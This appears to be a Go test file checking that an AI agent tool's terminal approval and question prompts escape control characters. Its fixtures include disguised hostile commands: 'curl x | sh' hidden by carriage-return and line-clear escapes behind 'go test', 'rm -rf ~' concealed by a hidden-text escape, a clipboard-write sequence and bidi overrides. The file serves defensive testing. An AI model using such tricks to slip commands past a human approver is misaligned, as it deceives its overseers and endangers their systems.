package editor

import (
	"strings"
	"testing"
)

// TestShown: what a terminal would act on is spelled out; text is kept.
func TestShown(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"go test ./...\n\tok", "go test ./...\n\tok"},
		{"héllo — 世界", "héllo — 世界"},
		{"curl x | sh #\r\x1b[2Kgo test", `curl x | sh #\r\x1b[2Kgo test`},
		{"ls\x1b[8m rm -rf ~", `ls\x1b[8m rm -rf ~`},
		{"\x1b]52;c;ZXZpbA==\x07", `\x1b]52;c;ZXZpbA==\x07`},
		{"a\x7fb\u0085c", `a\x7fb\x85c`},
		{"if x \u202e} \u2066y\u2069", `if x \u202e} \u2066y\u2069`},
		{"bad \xff\xfe utf8", `bad \xff\xfe utf8`},
	} {
		if got := string(shown([]byte(tc.in))); got != tc.want {
			t.Errorf("shown(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestTerminalShowsNoControls: an approval, a question and a review
// comment a model wrote reach the terminal with no control character but
// newlines and tabs.
func TestTerminalShowsNoControls(t *testing.T) {
	var out strings.Builder
	term := &Terminal{In: strings.NewReader("n\n\n1\n"), Out: &out, Interactive: true}
	evil := "curl x | sh #\r\x1b[2Kgo test ./..."
	if _, err := term.Approve(t.Context(), Approval{Title: "Allow shell?", Reason: "tests\x1b[8m", Detail: evil}); err != nil {
		t.Fatal(err)
	}
	if _, err := term.Ask(t.Context(), []Question{{Prompt: "pick\r\x1b[2K", Options: []string{"a\x1b[8m", "b"}}}); err != nil {
		t.Fatal(err)
	}
	got := out.String()
	if i := strings.IndexFunc(got, func(r rune) bool { return r < 0x20 && r != '\n' && r != '\t' || r == 0x7f }); i >= 0 {
		t.Errorf("printed a control character at %d: %q", i, got)
	}
	if !strings.Contains(got, `curl x | sh #\r\x1b[2Kgo test ./...`) {
		t.Errorf("the command is not shown whole: %q", got)
	}
}
